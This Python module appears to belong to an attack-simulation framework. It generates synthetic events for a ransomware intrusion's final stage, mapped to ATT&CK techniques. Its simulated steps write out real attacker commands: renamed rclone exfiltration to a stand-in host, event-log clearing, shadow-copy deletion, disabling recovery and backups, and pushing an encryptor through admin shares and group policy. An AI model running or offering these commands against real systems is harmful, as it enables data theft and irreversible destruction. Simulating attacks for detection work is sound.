"""The end: data gathered, packed and carried out, logs cleared, recovery made impossible, the encryptor laid ready."""

from __future__ import annotations

from bartizan.simulate.company.network import Flow
from bartizan.simulate.company.programs import Program
from bartizan.simulate.contract import Attack, Deed, Stage

__all__ = ["STAGE"]

_SYSTEM = "NT AUTHORITY\\SYSTEM"


def _deed(name: str, what: str, place: tuple[str, str], *techniques: str, quiet: bool = False) -> Deed:
    host, tactic = place
    return Deed(id=name, what=what, techniques=techniques, tactic=tactic, host=host, principal=_SYSTEM, quiet=quiet)


_GATHER = _deed(
    "gather",
    "Finance's and the board's files are read from the share and copied to one place.",
    ("files-01", "collection"),
    "T1039",
    "T1074.001",
    quiet=True,
)
_PACK = _deed("pack", "They are packed into archives with a password.", ("files-01", "collection"), "T1560.001")
_CARRY = _deed(
    "carry-out",
    "The archives go to a storage service with its own synchronising tool under another name.",
    ("files-01", "exfiltration"),
    "T1567.002",
    "T1036.003",
)
_TRICKLE = _deed(
    "trickle",
    "A second copy leaves through the implant's channel in small pieces.",
    ("finance-02", "exfiltration"),
    "T1041",
    "T1030",
    quiet=True,
)
_CLEAR = _deed("clear-log", "The security log of the application server is cleared.", ("app-01", "defense-evasion"), "T1070.001")
_CLEAR_OTHER = _deed(
    "clear-log-powershell", "The system log of the file server is cleared from PowerShell.", ("files-01", "defense-evasion"), "T1070.001"
)
_RECOVERY = _deed("no-recovery", "Shadow copies are deleted and the recovery environment is switched off.", ("files-01", "impact"), "T1490")
_SERVICES = _deed("stop-services", "Backup and database services are stopped.", ("files-01", "impact"), "T1489")
_STAGE = _deed("lay-ready", "The encryptor is copied to every server.", ("files-01", "lateral-movement"), "T1570", "T1021.002")
_POLICY = _deed(
    "group-policy",
    "A group policy is changed so that every machine runs the encryptor tonight.",
    ("dc-01", "defense-evasion"),
    "T1484.001",
    quiet=True,
)
_TEST = _deed("test-run", "The encryptor is tried on one folder.", ("files-01", "impact"), "T1486")


def _act(attack: Attack) -> None:
    _take(attack)
    _cover(attack)
    _prepare(attack)


def _take(attack: Attack) -> None:
    company, implant = attack.company, attack.processes["implant"]
    server, agent = company.windows["files-01"], attack.processes["files"]
    moment = company.clock.at("16:10:00")
    with attack.doing(moment, _GATHER):
        copier = server.start(moment, "robocopy", "robocopy D:\\Shares\\Finance D:\\Shares\\Common\\.t\\f /e /maxage:365 /xf *.tmp", agent)
        for turn in range(30):
            server.write(moment + 1 + turn * 0.8, copier, f"D:\\Shares\\Common\\.t\\f\\Budget-{turn:03d}.xlsx")
        server.stop(moment + 40, copier)
    moment = company.clock.at("16:38:12")
    with attack.doing(moment, _PACK):
        packer = server.start(
            moment,
            "7z",
            '"C:\\Program Files\\7-Zip\\7z.exe" a -t7z -mhe=on -pQ1w2e3r4 -v200m D:\\Shares\\Common\\.t\\d.7z D:\\Shares\\Common\\.t\\f',
            agent,
        )
        for turn in range(4):
            server.write(moment + 20 + turn * 40, packer, f"D:\\Shares\\Common\\.t\\d.7z.{turn + 1:03d}")
        server.stop(moment + 190, packer)
    moment = company.clock.at("17:14:33")
    with attack.doing(moment, _CARRY):
        image = "C:\\ProgramData\\svhost\\svhost.exe"
        server.write(moment - 30, agent, image)
        tool = server.start(
            moment,
            Program(image, "Rsync for cloud storage", "Rclone", "https://rclone.org", "rclone.exe", "1.65.2"),
            f"{image} copy D:\\Shares\\Common\\.t remote:in --transfers 8 --config c.conf",
            agent,
        )
        company.reach(moment + 2, tool, server, ("storage.example.net", 443), Flow("", 0, "", 0, "-", 1480.0, 812_000_000, 90_000))
        server.stop(moment + 1490, tool)
    moment = company.clock.at("17:30:00")
    with attack.doing(moment, _TRICKLE):
        host = company.windows["finance-02"]
        for turn in range(22):
            company.reach(
                moment + turn * 95, implant, host, ("api-telemetry.example.net", 443), Flow("", 0, "", 0, "-", 4.0, 980_000 + turn, 1200)
            )


def _cover(attack: Attack) -> None:
    company, admin = attack.company, attack.company.users["adm-server"]
    app, files = company.windows["app-01"], company.windows["files-01"]
    moment = company.clock.at("18:02:47")
    with attack.doing(moment, _CLEAR):
        provider = app.start(moment - 1, "wmiprvse", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", app.services)
        shell = app.start(moment - 0.5, "cmd", "cmd.exe /c wevtutil cl Security", provider, attack.sessions["app"])
        app.run(moment, "wevtutil", "wevtutil cl Security", shell)
        app.audit(moment + 0.6, "security/1102", (admin.sid, admin.name, "CORP", attack.sessions["app"].logon_id))
    moment = company.clock.at("18:09:05")
    with attack.doing(moment, _CLEAR_OTHER):
        shell = files.run(moment, "powershell", "powershell -c Clear-EventLog -LogName System,Application", attack.processes["files"])
        files.script(moment + 0.7, shell, "Clear-EventLog -LogName System,Application")
        files.audit(moment + 1.1, "system/104", ("SYSTEM", "NT AUTHORITY"))


def _prepare(attack: Attack) -> None:
    company, agent = attack.company, attack.processes["files"]
    server, dc = company.windows["files-01"], company.windows["dc-01"]
    for clock, deed, commands in (
        ("18:31:20", _RECOVERY, ("vssadmin delete shadows /all /quiet", "wmic shadowcopy delete", "reagentc /disable")),
        ("18:34:02", _SERVICES, ('net stop "Backup Agent" /y', "net stop MSSQLSERVER /y", "sc config BackupAgent start= disabled")),
    ):
        moment = company.clock.at(clock)
        with attack.doing(moment, deed):
            for turn, command in enumerate(commands):
                shell = server.start(moment + turn * 5, "cmd", f"C:\\Windows\\system32\\cmd.exe /c {command}", agent)
                server.run(moment + turn * 5 + 0.1, command.split()[0], command, shell)
                server.stop(moment + turn * 5 + 2.4, shell)
    moment = company.clock.at("18:41:16")
    with attack.doing(moment, _STAGE):
        for turn, name in enumerate(("app-01", "mgmt-01", "backup-01", "dc-01")):
            target = company.windows[name]
            opened = company.log_on_to(moment + turn * 4, company.users["adm-domain"], server, target)
            target.share(moment + turn * 4 + 0.5, opened, (server.ip, company.network.port()), "C$", "ProgramData\\upd\\wupd.exe")
            target.write(moment + turn * 4 + 0.7, target.system, "C:\\ProgramData\\upd\\wupd.exe")
    moment = company.clock.at("18:55:40")
    with attack.doing(moment, _POLICY):
        dc.write(
            moment,
            attack.processes["dc"],
            "C:\\Windows\\SYSVOL\\domain\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml",
        )
    moment = company.clock.at("19:02:08")
    with attack.doing(moment, _TEST):
        encryptor = server.start(
            moment, Program("C:\\ProgramData\\upd\\wupd.exe"), "C:\\ProgramData\\upd\\wupd.exe -p D:\\Shares\\Common\\old -t 4", agent
        )
        for turn in range(36):
            server.write(moment + 0.3 + turn * 0.05, encryptor, f"D:\\Shares\\Common\\old\\offer-{turn:03d}.docx.locked")
        server.write(moment + 3, encryptor, "D:\\Shares\\Common\\old\\HOW-TO-RECOVER.txt")
        server.stop(moment + 5, encryptor)


STAGE = Stage(order=80, title="Data carried out, tracks covered, the encryptor laid ready", act=_act)
